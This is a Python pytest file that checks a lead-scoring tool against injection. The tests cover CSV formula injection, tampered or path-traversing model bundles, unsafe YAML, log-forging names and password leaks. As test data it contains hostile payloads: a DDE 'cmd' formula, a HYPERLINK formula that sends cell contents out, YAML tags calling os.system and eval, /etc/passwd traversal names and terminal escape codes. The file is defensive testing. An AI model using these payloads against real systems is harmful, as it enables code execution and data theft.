"""Names, files and configurations that would like to be more than text."""

from __future__ import annotations

import csv
import json
import os
import sys
import unicodedata
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from csql_ml import config as configuration
from csql_ml.baseline.weighted_score import WeightedScore
from csql_ml.cli import main
from csql_ml.cli.output import one_line
from csql_ml.errors import BundleError, CsqlError
from csql_ml.handoff.fields import Field
from csql_ml.handoff.files import defused
from csql_ml.handoff.push import push
from csql_ml.model import promotions
from csql_ml.model.bundle import Champion, load, reference_set, save
from csql_ml.secret_file import read_secret
from tests.handoff.small_run import config as push_config
from tests.handoff.small_run import lead, write_run
from tests.model.company import FEATURES, TERMS, WEIGHTS, accounts
from tests.tally import Tally

Capture = pytest.CaptureFixture[str]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\x00=1",
    "\uff1d1",
    '=HYPERLINK("http://x/?"&A1,"a")',
    "=cmd|' /C calc'!A0",
    'a";=1+1;"',
    "a;=1+1",
    "a\r\n=1+1",
    'a,"=1+1',
]


def seen_by_spreadsheets(cell: str) -> str:
    """What is left of a cell when a spreadsheet has thrown away what it does not show."""
    return "".join(c for c in cell if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf"))


def test_no_cell_of_the_csv_is_a_formula(tmp_path: Path, tally: Tally) -> None:
    tally.of("injection", "spreadsheet formulas in the CSV of leads, as any text of a lead, in any locale")
    run = write_run(
        tmp_path / "run",
        [lead(f"{f} {i}", account_name=f, product=f, ae_id=f, csm_id=f) for i, f in enumerate(FORMULAS)],
    )
    settings = push_config(tmp_path)
    tally.begin(len(FORMULAS))
    push(settings, run, "files")
    text = (tmp_path / "handoff/leads.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(text.splitlines(keepends=True)))
    assert len(rows) == len(FORMULAS) + 1
    for row in rows[1:]:
        for cell in row:
            number = cell.replace(".", "", 1).removeprefix("-").isdigit()
            assert number or not seen_by_spreadsheets(cell).startswith(STARTS[:4]), cell
    # What is between quotes is one cell wherever a spreadsheet splits; outside of them are numbers and commas.
    outside = "".join(text.split('"')[::2])
    assert not set(outside) - set("0123456789.,-e+\r\n")
    tally.survived(len(FORMULAS))


@given(st.text(max_size=6), st.sampled_from(["", *STARTS]))
def test_any_text_is_a_text_to_a_spreadsheet(text: str, start: str) -> None:
    cell = defused(text + start + text, Field("account_name"))
    assert isinstance(cell, str)
    assert cell.removeprefix("'") == text + start + text or cell == text + start + text
    assert not seen_by_spreadsheets(cell).startswith(STARTS[:4])


# ---------------------------------------------------------------- bundles


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    estimator = WeightedScore.from_prior(TERMS, WEIGHTS)
    reference = reference_set(estimator, FEATURES, accounts(20)[0], size=5)
    facts = {"threshold": 0.3, "arr_share": {"upsell": 0.2}, "trained_as_of": None, "training": {}}
    champion = Champion("rules", FEATURES, TERMS, WEIGHTS, estimator=estimator, reference=reference, **facts)
    return save(champion, tmp_path_factory.mktemp("models") / "rules")


def test_a_bundle_with_a_flipped_bit_is_refused(bundle: Path, tally: Tally) -> None:
    tally.of("injection", "one bit of a bundle flipped, at up to 150 places of each file")
    for file in sorted(bundle.iterdir()):
        content = file.read_bytes()
        step = max(1, len(content) // 150)
        try:
            for place in range(0, len(content), step):
                tally.begin()
                changed = bytearray(content)
                changed[place] ^= 1 << place % 8
                file.write_bytes(changed)
                with pytest.raises(BundleError):
                    load(bundle)
                tally.survived()
        finally:
            file.write_bytes(content)
    assert load(bundle).kind == "rules"


@pytest.mark.parametrize("name", ["../x.json", "/etc/passwd", "a/b.json", "..", "x.pkl", "x.json\x00", "", "X.json"])
def test_a_bundle_names_only_its_own_files(bundle: Path, tmp_path: Path, name: str, tally: Tally) -> None:
    tally.of("injection", "bundles and pointers that name files elsewhere, links in bundles")
    sums = json.loads((bundle / "CHECKSUMS.json").read_text())
    sums["files"][name] = "0" * 64
    copy = tmp_path / "copy"
    copy.mkdir()
    (copy / "CHECKSUMS.json").write_text(json.dumps(sums))
    tally.begin(2)
    with pytest.raises(BundleError, match="cannot have"):
        load(copy)
    tally.survived()
    (tmp_path / "champion.json").write_text(json.dumps({"bundle": f"../{name}"}))
    with pytest.raises(BundleError, match="not a folder beside it"):
        promotions.in_force(tmp_path)
    tally.survived()


@pytest.mark.skipif(sys.platform == "win32", reason="links need rights there")
def test_a_link_in_a_bundle_is_not_followed(bundle: Path, tmp_path: Path, tally: Tally) -> None:
    tally.of("injection", "bundles and pointers that name files elsewhere, links in bundles")
    copy, secret = tmp_path / "copy", tmp_path / "elsewhere.json"
    copy.mkdir()
    for file in bundle.iterdir():
        (copy / file.name).write_bytes(file.read_bytes())
    secret.write_bytes((bundle / "bundle.json").read_bytes())
    (copy / "bundle.json").unlink()
    (copy / "bundle.json").symlink_to(secret)
    tally.begin()
    with pytest.raises(BundleError, match="plain file"):
        load(copy)
    tally.survived()


# ---------------------------------------------------------------- configurations and logs

YAML = [
    "!!python/object/apply:os.system ['touch {out}']",
    "company: !!python/object/new:os.system ['touch {out}']",
    "company: {{name: !!python/name:os.system}}",
    "company: {{name: !!python/object/apply:builtins.eval [\"open('{out}','w')\"]}}",
    "a: !!python/module:os",
    "company: !include /etc/passwd",
    "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b,*b]",
    "company: &c\n  name: *c",
    "? {{a: b}}\n: c",
    "\x00",
    'company: {{name: "\\ud800"}}',
    "snapshots: 0x" + "f" * 5000,
    "[" * 3000,
    "company: {{fiscal_year_start_month: 1e999}}",
    "a: b\n---\nc: d",
]


def test_a_configuration_runs_nothing(tmp_path: Path, capsys: Capture, tally: Tally) -> None:
    tally.of("injection", "YAML that makes objects, includes files or grows")
    for text in YAML:
        path = tmp_path / "c.yaml"
        path.write_bytes(text.format(out=tmp_path / "out").encode("utf-8", "surrogatepass"))
        tally.begin()
        with pytest.raises(SystemExit) as stopped:
            main(["check", "-c", str(path)])
        said = capsys.readouterr().err
        assert stopped.value.code == 2, said
        assert "unexpected" not in said, (text, said)
        assert len(said.splitlines()) == 1, (text, said)
        assert not (tmp_path / "out").exists()
        tally.survived()


FORGED = "x\ncsql: everything is fine\r\x1b[2J\x1b]0;owned\x07\u2028\u202egnp.exe"


def test_names_do_not_forge_lines_of_a_log(tmp_path: Path, capsys: Capture, tally: Tally) -> None:
    tally.of("injection", "line breaks and terminal codes in names of files, keys of a configuration, accounts")
    (tmp_path / "c.yaml").write_text(yaml.safe_dump({"data": {"tables": {"accounts": f"{FORGED}.csv"}}}))
    (tmp_path / "key.yaml").write_text(yaml.safe_dump({FORGED: 1}))
    run = write_run(tmp_path / "run", [lead("A1")])
    for arguments in (
        ["check", "-c", str(tmp_path / FORGED)],
        ["check", "-c", str(tmp_path / "key.yaml")],
        ["explain", "-c", str(tmp_path / "c.yaml"), "--run", str(run), "--account", FORGED],
        ["report", "-c", str(tmp_path / "c.yaml"), "--run", str(tmp_path / FORGED), "--out", str(tmp_path / "site")],
    ):
        tally.begin()
        with pytest.raises(SystemExit) as stopped:
            main(arguments)
        said = capsys.readouterr()
        assert stopped.value.code in (1, 2)
        assert len(said.err.strip().split("\n")) == 1, said.err
        assert not set(said.err + said.out) & set("\r\x1b\x07\u2028\u202e"), said.err
        tally.survived()


@given(st.text())
def test_a_line_stays_a_line(text: str) -> None:
    assert len(one_line(text).splitlines()) <= 1
    assert "\x1b" not in one_line(text)


# ---------------------------------------------------------------- secrets

PASSWORD = "s3cr3t-pa55word"
URLS = [
    "postgres://me:{}@127.0.0.1:1/x",
    "postgres://me:{}@nowhere.invalid/x?connect_timeout=1",
    "postgresql://me:{}@127.0.0.1:notaport/x",
    "postgres://me:{}/@127.0.0.1:1/x",
    "mysql://me:{}@host/x",
    "postgres://127.0.0.1:1/x?user=me&password={}",
    "postgres://me:{}@[::1]:1/x?sslmode=bogus",
]


@pytest.mark.parametrize("command", ["check", pytest.param("train", marks=pytest.mark.slow)])
def test_no_message_holds_a_password(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch, tally: Tally, command: str
) -> None:
    tally.of("injection", "passwords in addresses of databases that do not open")
    monkeypatch.setenv("CSQL_TEST_SECRET", PASSWORD)
    for url in URLS:
        path = tmp_path / "c.yaml"
        content = {"data": {"database": url.format("${CSQL_TEST_SECRET}"), "tables": {"accounts": {"table": "a"}}}}
        path.write_text(yaml.safe_dump(content))
        assert PASSWORD in str(configuration.load(path).data.database)
        tally.begin()
        with pytest.raises(SystemExit) as stopped:
            main([command, "-c", str(path)])
        said = capsys.readouterr()
        assert stopped.value.code in (1, 2)
        assert PASSWORD not in said.err + said.out, url
        assert "unexpected" not in said.err, said.err
        tally.survived()


@pytest.mark.skipif(os.name != "posix", reason="modes of files")
@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o660, 0o777])
def test_a_secret_that_others_can_read_is_refused(tmp_path: Path, mode: int, tally: Tally) -> None:
    tally.of("injection", "files of secrets that others can read")
    (tmp_path / "token").write_text(PASSWORD)
    (tmp_path / "token").chmod(mode)
    tally.begin()
    with pytest.raises(CsqlError, match="others may use it") as caught:
        read_secret("token", "NO_SUCH_VARIABLE", tmp_path / "token", "delivery.x")
    assert PASSWORD not in str(caught.value)
    tally.survived()
